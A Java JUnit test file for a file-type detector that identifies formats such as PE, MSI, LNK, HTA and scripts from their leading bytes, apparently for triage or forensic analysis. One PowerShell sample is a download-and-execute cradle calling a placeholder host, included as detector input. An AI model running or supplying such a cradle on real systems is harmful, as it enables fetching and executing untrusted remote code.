package org.bitshound.files;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.Arrays;
import java.util.stream.Stream;
import org.bitshound.bytes.MappedFile;
import org.bitshound.testing.evidence.files.SampleFiles;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class FileTypeTest {

  static Stream<Arguments> files() {
    return Stream.of(
        arguments("empty", new byte[0]),
        arguments("pe", SampleFiles.program(false)),
        arguments("pe", SampleFiles.signedProgram()),
        arguments("pe-dll", SampleFiles.program(true)),
        arguments("mz", bytes("MZ\u0090\0")),
        arguments("zip", SampleFiles.zip("a.txt")),
        arguments("ooxml", SampleFiles.zip("[Content_Types].xml")),
        arguments("ooxml", SampleFiles.zip("_rels/.rels", "[Content_Types].xml")),
        arguments("jar", SampleFiles.zip("META-INF/MANIFEST.MF")),
        arguments("msi", SampleFiles.compound(SampleFiles.installer())),
        arguments("ole", SampleFiles.compound(new byte[16])),
        arguments("iso", SampleFiles.iso()),
        arguments("cab", bytes("MSCF\0\0\0\0....")),
        arguments("pdf", bytes("%PDF-1.7\n")),
        arguments("png", bytes("\u0089PNG\r\n\u001a\n")),
        arguments("jpeg", bytes("\u00ff\u00d8\u00ff\u00e0")),
        arguments("gif", bytes("GIF89a")),
        arguments("webp", bytes("RIFF\0\0\0\0WEBP")),
        arguments("bmp", bytes("BMF\0\0\0\0\0\0\0" + "6\0\0\0(\0\0\0")),
        arguments("lnk", bytes("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00c0\0\0\0\0\0\0F")),
        arguments("gzip", bytes("\u001f\u008b\u0008\0")),
        arguments("7z", bytes("7z\u00bc\u00af'\u001c\0\u0004")),
        arguments("rar", bytes("Rar!\u001a\u0007\u0001\0")),
        arguments("rtf", bytes("{\\rtf1 ")),
        arguments("chm", bytes("ITSF\u0003\0\0\0")),
        arguments("script", text("#!/bin/sh\n")),
        arguments("xml", text("<?xml version=\"1.0\"?><a/>")),
        arguments("html", text("\n<!DOCTYPE html><html>")),
        arguments("hta", text("<html><head><HTA:APPLICATION id=\"x\"/></head>")),
        arguments("json", text("{\"a\": 1}")),
        arguments("batch", text("@echo off\r\ncopy a b\r\n")),
        arguments(
            "powershell",
            text("$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example')")),
        arguments("vbscript", text("Dim s\nSet s = CreateObject(\"WScript.Shell\")\nWScript.Quit")),
        arguments("text", text("Zwölf Boxkämpfer jagen Eva.\r\n")),
        arguments("text", "Zwölf Boxkämpfer".getBytes(ISO_8859_1)),
        arguments("text", ("\ufeff" + "wide").getBytes(UTF_16LE)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("files")
  void theBytesTellTheType(String type, byte[] file) {
    assertThat(FileType.of(MappedFile.of(file))).contains(type);
  }

  static Stream<Arguments> nearMisses() {
    return Stream.of(
        arguments("two letters are no picture", "text", text("BMW builds cars")),
        arguments(
            "a letter that quotes commands is no script",
            "text",
            text("Dear Bob, use Import-Module and then Invoke-WebRequest as before.")),
        arguments("one mark alone is no script", "text", text("# new-object is a cmdlet")),
        arguments("a heading is no shebang", "text", text("# Read me")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("nearMisses")
  void whatOnlyLooksLikeItIsNot(String why, String type, byte[] file) {
    assertThat(FileType.of(MappedFile.of(file))).as(why).contains(type);
  }

  @Test
  void bytesOfNoKnownFormatHaveNoWord() {
    assertThat(FileType.of(MappedFile.of(new byte[] {1, 2, 3, 0, 0, 9}))).isEmpty();
    assertThat(FileType.of(MappedFile.of(bytes("\u00e4\u00f6\u00fc\u00e4")))).isEmpty();
  }

  @Test
  void aTextIsJudgedByItsBeginningWhereItIsLong() {
    byte[] all = new byte[FileType.LOOKED_AT + 1];
    Arrays.fill(all, (byte) 'a');
    all[FileType.LOOKED_AT - 1] = (byte) 0xc3; // half a letter, where the look ends
    all[FileType.LOOKED_AT] = (byte) 0xa4;

    assertThat(FileType.of(MappedFile.of(all))).contains("text");
  }

  @Test
  void aProgramCarriesCertificatesWhereItsTableLiesInTheFile() {
    assertThat(Portable.carriesCertificates(MappedFile.of(SampleFiles.signedProgram()))).isTrue();
    assertThat(Portable.carriesCertificates(MappedFile.of(SampleFiles.program(false)))).isFalse();
    byte[] cut = Arrays.copyOf(SampleFiles.signedProgram(), SampleFiles.signedProgram().length - 1);
    assertThat(Portable.carriesCertificates(MappedFile.of(cut))).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("files")
  void everyCutIsReadToItsEnd(String type, byte[] file) {
    for (int length = 0; length < Math.min(file.length, 2048); length++) {
      var cut = MappedFile.of(Arrays.copyOf(file, length));
      assertThat(FileType.of(cut)).isNotNull();
      assertThat(Portable.carriesCertificates(cut)).isFalse();
    }
  }

  private static byte[] text(String text) {
    return text.getBytes(UTF_8);
  }

  private static byte[] bytes(String oneByteEach) {
    return oneByteEach.getBytes(ISO_8859_1);
  }
}
